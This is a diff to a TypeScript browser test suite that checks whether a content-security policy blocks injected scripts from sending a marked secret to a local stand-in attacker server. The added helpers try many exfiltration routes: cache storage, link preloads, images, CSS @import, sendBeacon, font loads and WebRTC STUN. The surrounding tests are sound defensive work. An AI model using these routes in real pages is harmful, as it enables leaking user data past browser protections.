@@ -1,3 +1,4 @@
+import { createSocket } from 'node:dgram';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { listen, type Attacker } from './helpers/attacker.ts';
@@ -33,6 +34,7 @@ const WORKER_SCRIPT = `(async (url) => {
     () => new Promise((ok, no) => { const s = new EventSource(url + '/events?d=SECRET'); s.onopen = ok; s.onerror = no; }),
     async () => importScripts(url + '/import.js?d=SECRET'),
     () => WorkerGlobalScope.prototype.fetch.call(self, url + '/prototype?d=SECRET'),
+    async () => (await caches.open('x')).add(url + '/cache?d=SECRET'),
   ];
   const outcomes = [];
   for (const attempt of tries) {
@@ -101,6 +103,34 @@ const attackFromPage = (page: Page): Promise<string> =>
     }
   }, attacker.url);
 
+/** Ways of an injected script to let elements make a request; gives how many were tried. */
+async function tryElements(base: string): Promise<number> {
+  const url = (name: string): string => `${base}${name}?d=SECRET`;
+  const add = (tag: string, attributes: Record<string, string>): void => {
+    document.body.append(Object.assign(document.createElement(tag), attributes));
+  };
+  for (const rel of ['stylesheet', 'modulepreload', 'prefetch', 'preload', 'icon', 'manifest', 'preconnect'])
+    add('link', { rel, href: url(rel), as: 'image' });
+  for (const tag of ['img', 'video', 'audio']) add(tag, { src: url(tag) });
+  add('style', { textContent: `@import '${url('import.css')}'; body { background: url('${url('background')}') }` });
+  navigator.sendBeacon(url('beacon'));
+  void new FontFace('x', `url('${url('font')}')`).load().catch(() => undefined);
+  await new Promise((resolve) => setTimeout(resolve, 1500));
+  return 13;
+}
+
+/** The way of an injected script to a peer. */
+async function tryPeers(port: number): Promise<void> {
+  try {
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
+    peer.createDataChannel('secret');
+    await peer.setLocalDescription(await peer.createOffer());
+  } catch {
+    // Refused: the listener tells whether anything came through.
+  }
+  await new Promise((resolve) => setTimeout(resolve, 1500));
+}
+
 describe('without any wall', () => {
   it('SQL and script do reach another origin: the attacks below are real', async () => {
     const page = await opened('');
@@ -117,6 +147,7 @@ describe('without any wall', () => {
         'GET /events',
         'GET /import.js',
         'GET /prototype',
+        'GET /cache',
         'GET /page',
       ]),
     );
@@ -170,6 +201,29 @@ describe('the sealed policy alone', () => {
     expect(outcome).toBe('refused');
     expect(server.requests.length).toBe(before);
     await expect.poll(() => page.evaluate(() => (window as unknown as Hands).locality().blocked)).toBe(1);
+  });
+
+  it.for(['own', 'other'])('refuses links, styles, fonts, scripts and pictures to its %s host', async (host) => {
+    const page = await opened('policy');
+    const before = server.requests.length;
+    const base = host === 'own' ? server.url : `${attacker.url}/`;
+    await page.evaluate(`void import('${base}module.js?d=SECRET').catch(() => undefined)`);
+    const tried = await page.evaluate(tryElements, base);
+    expect(tried).toBeGreaterThan(8);
+    expect(server.requests.slice(before)).toEqual([]);
+    expect(attacker.hits).toEqual([]);
+  });
+
+  it.for(['policy', ''])('leaves no way to a peer (walls: “%s”; without any the attack is real)', async (walls) => {
+    const socket = createSocket('udp4');
+    let packets = 0;
+    socket.on('message', () => packets++);
+    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
+    const page = await opened(walls);
+    await page.evaluate(tryPeers, socket.address().port);
+    if (walls === '') await expect.poll(() => packets).toBeGreaterThan(0);
+    else expect(packets).toBe(0);
+    socket.close();
   });
 });
 
